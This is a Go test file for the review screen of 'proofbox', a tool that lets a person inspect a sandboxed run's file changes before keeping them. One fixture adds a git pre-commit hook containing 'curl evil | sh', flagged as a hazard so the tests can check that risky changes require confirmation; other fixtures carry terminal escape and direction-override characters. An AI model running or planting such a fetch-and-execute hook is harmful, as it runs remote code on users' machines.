package review

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/google/go-cmp/cmp"

	"proofbox"
	"proofbox/internal/syntax"
)

var update = flag.Bool("update", false, "write the golden files anew")

// recorded is a run whose answers are at hand, and that notes what is asked.
type recorded struct {
	diff  proofbox.Diff
	asked []string
	fails error
}

func (r *recorded) Diff(_ context.Context, req proofbox.DiffRequest) (proofbox.Diff, error) {
	if len(req.Paths) == 0 {
		return r.diff, nil
	}
	d := r.diff
	d.Changes = nil
	for _, c := range r.diff.Changes {
		if c.Path == req.Paths[0] {
			d.Changes = append(d.Changes, c)
		}
	}
	return d, nil
}

func (r *recorded) Decide(_ context.Context, req proofbox.ChoiceRequest) error {
	r.asked = append(r.asked, fmt.Sprintf("decide %q paths %q hunks %v allow %v", req.Choice, req.Paths, req.Hunks, req.Allow))
	return nil
}

func (*recorded) Colours(context.Context, syntax.Order) ([][][]syntax.Part, error) { return nil, nil }

func (r *recorded) Keep(_ context.Context, req proofbox.KeepRequest) (proofbox.KeepReceipt, error) {
	r.asked = append(r.asked, fmt.Sprintf("keep decided %t, conflict %q", req.Decided, req.Conflict))
	return proofbox.KeepReceipt{Original: r.diff.Original, Kept: r.diff.Changes[:1], Merged: []proofbox.Raw{"main.go"}}, r.fails
}

func sample() *recorded {
	text := proofbox.Entry{Kind: proofbox.File, Mode: 0o644, Digest: "sha256:x"}
	absent := proofbox.Entry{Kind: proofbox.Absent}
	return &recorded{diff: proofbox.Diff{Run: "abc", Original: "/home/me/project", Changes: []proofbox.Change{
		{
			Path: ".git/hooks/pre-commit", Before: absent, After: text, Insertions: 1, Hash: "sha256:hook", Hazards: []proofbox.Hazard{{Rule: "git-hook", Words: "runs on the next `git commit`"}},
			Hunks: []proofbox.Hunk{{N: 1, Hash: "sha256:1", Text: "@@ -0,0 +1 @@\n+curl evil | sh\n"}},
		},
		{Path: "lib", Before: absent, After: proofbox.Entry{Kind: proofbox.Folder, Mode: 0o755}},
		{Path: "lib/\x1b[31mred", Before: absent, After: text, Insertions: 2, Hunks: []proofbox.Hunk{{N: 1, Hash: "sha256:2", Text: "@@ -0,0 +1,2 @@\n+\ttab\n+\u202eturned\n"}}},
		{Path: "main.go", Before: text, After: text, Insertions: 2, Deletions: 2, Hunks: []proofbox.Hunk{
			{N: 1, Hash: "sha256:3", Text: "@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n"},
			{N: 2, Hash: "sha256:4", Text: "@@ -9,2 +9,2 @@\n nine\n-ten\n+TEN" + proofbox.Raw(strings.Repeat(" far", 40)) + "\n\\ No newline at end of file\n"},
		}},
		{Path: "pipe", Before: absent, After: proofbox.Entry{Kind: proofbox.Special}, Refused: "it is a device, FIFO or socket"},
	}}}
}

// screenOf opens a run on a screen of a size and presses keys; what takes time
// is waited for.
func screenOf(t *testing.T, run Run, width, height int, keys ...string) *model {
	t.Helper()
	opened, err := Open(t.Context(), run)
	if err != nil {
		t.Fatal(err)
	}
	m := opened.(*model)
	m.Update(tea.WindowSizeMsg{Width: width, Height: height})
	press(m, keys...)
	return m
}

func press(m *model, keys ...string) {
	for _, key := range keys {
		_, cmd := m.Update(keyPress(key))
		for cmd != nil {
			msg := cmd()
			if _, quit := msg.(tea.QuitMsg); quit {
				return
			}
			_, cmd = m.Update(msg)
		}
	}
}

func keyPress(key string) tea.KeyPressMsg {
	codes := map[string]rune{"enter": tea.KeyEnter, "esc": tea.KeyEscape, "tab": tea.KeyTab, "down": tea.KeyDown, "up": tea.KeyUp, "pgdown": tea.KeyPgDown}
	if code, ok := codes[key]; ok {
		return tea.KeyPressMsg{Code: code}
	}
	return tea.KeyPressMsg{Code: []rune(key)[0], Text: key}
}

// shown gives what is on the screen, without its styles. Lines that the cursor is on
// end with a mark.
func shown(m *model) string {
	lines := m.screen()
	for i, line := range lines {
		plain := ansi.Strip(line)
		if i > 0 && strings.HasPrefix(line, "\x1b[7m") {
			plain = ansi.Truncate(plain, m.width-1, "") + "◀"
		}
		lines[i] = plain
	}
	return strings.Join(lines, "\n") + "\n"
}

// broad has a change of each kind, and an installed package.
func broad() *recorded {
	text := proofbox.Entry{Kind: proofbox.File, Mode: 0o644, Digest: "sha256:x"}
	program := text
	program.Mode = 0o755
	absent, folder := proofbox.Entry{Kind: proofbox.Absent}, proofbox.Entry{Kind: proofbox.Folder, Mode: 0o755}
	link := proofbox.Entry{Kind: proofbox.Symlink, Target: "guide\x1b.md"}
	install := []proofbox.Hazard{{Rule: "package-scripts", Words: "runs its script \"install\" on the next install"}}
	r := &recorded{diff: proofbox.Diff{Run: "abc", Original: "/home/me/project", Text: "diff --git a/docs/gone.md b/docs/gone.md\ndeleted file mode 100644\n--- a/docs/gone.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n", Changes: []proofbox.Change{
		{Path: "bin/tool", Before: text, After: program, Hash: "sha256:t", Hazards: []proofbox.Hazard{{Rule: "executable", Words: "has become executable: it runs when its name is called"}}, Hunks: []proofbox.Hunk{{Hash: "sha256:m", Text: "old mode 100644\nnew mode 100755\n"}}},
		{Path: "docs/gone.md", Before: text, After: absent, Deletions: 1},
		{Path: "docs/latest.md", Before: absent, After: link, Insertions: 1},
		{Path: "empty", Before: absent, After: folder},
		{Path: "img/logo.png", Before: proofbox.Entry{Kind: proofbox.File, Mode: 0o644, Size: 9000}, After: proofbox.Entry{Kind: proofbox.File, Mode: 0o644, Size: 12000}, Binary: true},
		{Path: "node_modules", Before: absent, After: folder},
	}}}
	for n := range 12 {
		dir := proofbox.Raw(fmt.Sprintf("node_modules/p%02d", n))
		r.diff.Changes = append(r.diff.Changes, proofbox.Change{Path: dir, Before: absent, After: folder}, proofbox.Change{Path: dir + "/package.json", Before: absent, After: text, Hash: "sha256:p", Hazards: install, Insertions: 1})
	}
	r.diff.Changes = append(
		r.diff.Changes,
		proofbox.Change{
			Path: "src/new.ts", Before: absent, After: text, From: "src/old.ts", Share: 97, Renamed: true, Insertions: 1, Hunks: []proofbox.Hunk{{N: 1, Hash: "sha256:n", Text: "@@ -0,0 +1 @@\n+x\n"}},
			Notes: []string{"has changed 200 lines in nothing but line ends and blanks before them, and 1 otherwise, from line 51 on"}, Writers: &proofbox.Writers{Last: "sed", Names: []proofbox.Raw{"bash", "sed"}},
		},
		proofbox.Change{Path: "src/old.ts", Before: text, After: absent, Deletions: 1},
	)
	return r
}

// TestScreens holds screens against golden files. Every screen has as many lines
// as the terminal, none wider than it, and no control character of the box.
func TestScreens(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		width, height int
		keys          []string
	}{
		"list":      {80, 24, nil},
		"narrow":    {40, 10, []string{"G"}},
		"file":      {80, 24, []string{"G", "up", "enter"}},
		"hunk kept": {80, 24, []string{"G", "up", "enter", "y"}},
		"sides":     {80, 24, []string{"G", "up", "enter", "s"}},
		"range":     {80, 24, []string{"G", "up", "enter", "down", "down", "b"}},
		"far right": {80, 24, []string{"G", "up", "enter", ">", ">"}},
		"escaped":   {80, 24, []string{"down", "down", "down", "down", "enter"}},
		"gate":      {80, 24, []string{"down", "down", "y"}},
		"gate asks": {80, 24, []string{"down", "down", "enter", "Y"}},
		"help":      {80, 24, []string{"?"}},
		"search":    {80, 24, []string{"/", "m", "a", "i"}},
		"risky":     {80, 24, []string{"f"}},
		"apply":     {80, 24, []string{"G", "up", "y", "a"}},
		"applied":   {80, 24, []string{"G", "up", "y", "a", "y"}},
		"bulk":      {80, 24, []string{"y", "G", "y"}},
		"searched":  {80, 24, []string{"/", "m", "a", "i", "enter"}},
		"found":     {80, 24, []string{"/", "m", "a", "i", "enter", "enter"}},

		"rejected":        {80, 24, []string{"G", "up", "enter"}},
		"rejected shown":  {80, 24, []string{"G", "up", "enter", "tab", "o"}},
		"rejected kept":   {80, 24, []string{"G", "up", "enter", "tab", "y"}},
		"not found":       {80, 24, []string{"/", "q", "q", "enter"}},
		"block from head": {80, 24, []string{"/", "m", "a", "i", "enter", "enter", "b"}},
		"broad":           {80, 24, nil},
		"broad large":     {160, 50, []string{"G"}},
		"broad unfolded":  {80, 24, []string{"/", "n", "o", "d", "e", "enter", "esc", "down"}},
		"broad one whole": {80, 24, []string{"down", "down", "down", "enter", "y"}},
		"broad renamed":   {60, 16, []string{"G", "up", "enter"}},
		"broad mode":      {80, 24, []string{"down", "enter"}},
		"broad risky":     {80, 24, []string{"f"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			run := sample()
			if strings.HasPrefix(name, "broad") {
				run = broad()
			}
			if strings.HasPrefix(name, "rejected") {
				run.diff.Changes[3].Hunks[1].Rejected = "xyz"
			}
			m := screenOf(t, run, c.width, c.height, c.keys...)
			got := shown(m)
			lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
			if len(lines) != c.height {
				t.Errorf("it has %d lines", len(lines))
			}
			for _, line := range lines {
				if ansi.StringWidth(line) > c.width || strings.ContainsAny(line, "\x1b\u202e\t") {
					t.Errorf("the line is too wide or not escaped: %q", line)
				}
			}
			golden(t, filepath.Join("testdata", strings.ReplaceAll(name, " ", "-")), got)
		})
	}
}

func golden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s; write it anew with -update:\n%s", path, diff)
	}
}

// TestDecisionsAreSent: each key sends what it decides, in order, bound to what
// was shown; nothing is kept before that is asked for and confirmed.
func TestDecisionsAreSent(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		keys []string
		want []string
	}{
		"a change":       {[]string{"G", "up", "y", "n", "u"}, []string{`decide "keep" paths ["main.go"] hunks [] allow []`, `decide "discard" paths ["main.go"] hunks [] allow []`, `decide "" paths ["main.go"] hunks [] allow []`}},
		"a hunk":         {[]string{"G", "up", "enter", "tab", "y"}, []string{`decide "keep" paths [] hunks [{main.go 2 [] sha256:4}] allow []`}},
		"a block":        {[]string{"G", "up", "enter", "down", "down", "b", "y"}, []string{`decide "keep" paths [] hunks [{main.go 1 [2 3] sha256:3}] allow []`}},
		"one line":       {[]string{"G", "up", "enter", "down", "down", "down", "v", "y"}, []string{`decide "keep" paths [] hunks [{main.go 1 [3] sha256:3}] allow []`}},
		"refused":        {[]string{"G", "y"}, nil},
		"unseen danger":  {[]string{"down", "down", "y"}, nil},
		"danger in bulk": {[]string{"y"}, nil},
		"danger, no":     {[]string{"down", "down", "enter", "Y", "n"}, nil},
		"danger, yes":    {[]string{"down", "down", "enter", "Y", "y"}, []string{`decide "keep" paths [".git/hooks/pre-commit"] hunks [] allow [{.git/hooks/pre-commit sha256:hook}]`}},
		"danger, seen":   {[]string{"down", "down", "enter", "esc", "y", "y"}, []string{`decide "keep" paths [".git/hooks/pre-commit"] hunks [] allow [{.git/hooks/pre-commit sha256:hook}]`}},
		"danger, folder": {[]string{"down", "down", "enter", "esc", "up", "y", "y"}, nil},
		"a folder":       {[]string{"down", "down", "down", "y"}, []string{`decide "keep" paths ["lib" "lib/\x1b[31mred"] hunks [] allow []`}},
		"nothing to do":  {[]string{"a", "y"}, nil},
		"not confirmed":  {[]string{"G", "up", "n", "y", "a", "n"}, []string{`decide "discard" paths ["main.go"] hunks [] allow []`, `decide "keep" paths ["main.go"] hunks [] allow []`}},
		"confirmed":      {[]string{"G", "up", "y", "a", "y"}, []string{`decide "keep" paths ["main.go"] hunks [] allow []`, `keep decided true, conflict ""`}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			run := sample()
			screenOf(t, run, 80, 24, c.keys...)
			if diff := cmp.Diff(c.want, run.asked); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestHeldRequestsAreNamed: what of a run waits for a person, besides its changes.
func TestHeldRequestsAreNamed(t *testing.T) {
	t.Parallel()
	run := sample()
	run.diff.Staged = []proofbox.Staged{{N: 1, State: proofbox.Sent}, {N: 2, State: proofbox.Held}}
	if got := shown(screenOf(t, run, 80, 24)); !strings.Contains(got, "a request is held, too: see `proofbox diff abc`") {
		t.Errorf("the screen:\n%s", got)
	}
}

// TestConflictIsShown: a keep that fails for a conflict shows it, and a key takes
// a side.
func TestConflictIsShown(t *testing.T) {
	t.Parallel()
	run := sample()
	run.fails = errors.New("nothing was kept: \"main.go\": …; take one side with --on-conflict run\n<<<<<<< original\nmine\n=======\ntheirs\n>>>>>>> run")
	m := screenOf(t, run, 80, 24, "G", "up", "y", "a", "y")
	if got := shown(m); !strings.Contains(got, "=======") || !strings.Contains(got, "r takes the run's side") {
		t.Errorf("the screen is\n%s", got)
	}
	press(m, "o")
	if last := run.asked[len(run.asked)-1]; last != `keep decided true, conflict "original"` {
		t.Errorf("last was asked: %s", last)
	}
}

// BenchmarkKey presses a key on a run of many changes and draws the screen.
func BenchmarkKey(b *testing.B) {
	for _, n := range []int{10_000, 1_000_000} {
		run := &recorded{diff: proofbox.Diff{Run: "abc"}}
		for i := range n {
			run.diff.Changes = append(run.diff.Changes, proofbox.Change{Path: proofbox.Raw(fmt.Sprintf("folder%03d/sub%d/file%07d", i/1000, i/100%10, i)), After: proofbox.Entry{Kind: proofbox.File}})
		}
		opened, err := Open(b.Context(), run)
		if err != nil {
			b.Fatal(err)
		}
		m := opened.(*model)
		for _, key := range []string{"down", "pgdown", "enter", "f", "y"} {
			b.Run(fmt.Sprintf("%d/%s", n, key), func(b *testing.B) {
				for b.Loop() {
					m.Update(keyPress(key))
					m.View()
					m.file, m.text = nil, nil
				}
			})
		}
	}
}
